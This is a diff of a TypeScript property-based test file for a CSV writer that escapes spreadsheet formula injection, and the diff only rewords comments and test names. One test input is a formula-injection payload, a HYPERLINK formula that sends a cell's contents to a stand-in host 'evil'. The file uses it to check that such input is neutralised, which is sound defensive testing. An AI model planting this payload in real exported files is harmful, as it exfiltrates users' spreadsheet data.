@@ -2,7 +2,7 @@ import * as fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { csvLine } from './csv.ts';
 
-/** Read character by character, by the grammar of RFC 4180 and with none of the writer's shortcuts. */
+/** Parses character by character by the grammar of RFC 4180, without the writer's shortcuts. */
 function parseCsv(text: string): string[][] {
   const lines: string[][] = [];
   let line: string[] = [];
@@ -49,7 +49,10 @@ const cell = fc.oneof(
 );
 const SIGNS = '=+-@＝＋－＠';
 
-/** Character by character: an apostrophe stands in front of a text that begins like a formula, and before each sign that begins a part. */
+/**
+ * Character by character: adds an apostrophe before a text that starts like a formula, and before each sign
+ * that starts a part.
+ */
 function safe(text: string): string {
   let written = SIGNS.includes(text.trimStart()[0] ?? 'a') || /^[\t\r]/.test(text) ? "'" : '';
   let begins = false;
@@ -63,7 +66,7 @@ function safe(text: string): string {
 }
 
 describe('csvLine', () => {
-  it('is read back as it was written, by a reader of its own', () => {
+  it('is read back as written by an independent reader', () => {
     const line = fc.array(cell, { minLength: 2, maxLength: 20 });
     fc.assert(
       fc.property(fc.array(line, { maxLength: 8 }), (lines) => {
@@ -78,7 +81,7 @@ describe('csvLine', () => {
     );
   });
 
-  it('never lets a text begin like a formula, whatever sign separates lists on the system', () => {
+  it('never lets a text start like a formula, with any list separator', () => {
     fc.assert(
       fc.property(hostile, (text) => {
         const [[first = ''] = []] = parseCsv(csvLine([text, 1]));
@@ -89,13 +92,13 @@ describe('csvLine', () => {
     );
   });
 
-  it('makes the known tricks safe', () => {
+  it('neutralises known injection tricks', () => {
     expect(csvLine(['x\t=2', 'a;=HYPERLINK("http://evil/?"&A1)', ' =1', '＝1+1'])).toBe(
       `"x\t'=2","a;'=HYPERLINK(""http://evil/?""&A1)",' =1,'＝1+1\r\n`,
     );
   });
 
-  it('quotes what must be quoted and nothing else', () => {
+  it('quotes only where necessary', () => {
     expect(csvLine(['a', 'b,c', 'say "hi"', 'x\ny', null, -1.5, true, ' pad ', '-1', '=1+1'])).toBe(
       `a,"b,c","say ""hi""","x\ny",,-1.5,true, pad ,'-1,'=1+1\r\n`,
     );
